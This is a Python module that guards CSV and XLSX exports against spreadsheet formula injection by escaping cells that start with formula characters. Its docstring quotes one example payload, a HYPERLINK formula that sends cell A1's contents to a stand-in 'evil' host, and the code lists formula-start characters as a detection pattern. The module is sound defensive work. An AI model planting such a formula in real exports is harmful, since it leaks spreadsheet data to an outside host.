"""Cells of the CSV and XLSX files the platform produces, safe to open in a spreadsheet.

Names and titles come from the public (an organisation may call itself
`=HYPERLINK("http://evil/?"&A1;"Kliknij")`): a spreadsheet program opening a CSV turns a cell
that starts with `=`, `+`, `-`, `@`, a tab or a carriage return into a formula (some also
after blanks or a line break, or for the full-width `＝ ＋ － ＠`), and openpyxl
writes any string starting with `=` into an XLSX as a formula. So (OWASP, "CSV injection"):

- in CSV such a text cell gets a leading apostrophe (`'=HYPERLINK(...)`), which spreadsheets
  show as text; a plain number (`-12.50`) is left alone, it cannot be a formula;
- in XLSX every text cell is written with the string type, so it is shown as it is and never
  evaluated, whatever it starts with (numbers stay numbers).
"""

from __future__ import annotations

import io
import re
from typing import Any

FORMULA_START = ("=", "+", "-", "@",
                 # the full-width forms, which some spreadsheets (Excel in East Asian
                 # locales) read as the ASCII ones
                 "\uff1d", "\uff0b", "\uff0d", "\uff20")
CONTROL_START = ("\t", "\r", "\n")
# what a spreadsheet may skip before it looks for a formula's start
_LEADING_BLANKS = " \t\r\n\u00a0\u3000"
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def csv_cell(value: Any) -> Any:
    """A CSV cell that no spreadsheet reads as a formula: one starting with a tab or a line
    break, or whose first character after blanks starts a formula (plain numbers aside)."""
    if isinstance(value, str) and (value.startswith(CONTROL_START) or (
            value.lstrip(_LEADING_BLANKS).startswith(FORMULA_START)
            and not _NUMBER.fullmatch(value))):
        return "'" + value
    return value


def csv_row(values: list[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def as_text_cells(book: Any) -> None:
    """Every string cell of an openpyxl workbook typed as a string, never as a formula."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"


def workbook_bytes(book: Any) -> bytes:
    """The workbook saved as XLSX bytes, its text cells made safe first."""
    as_text_cells(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
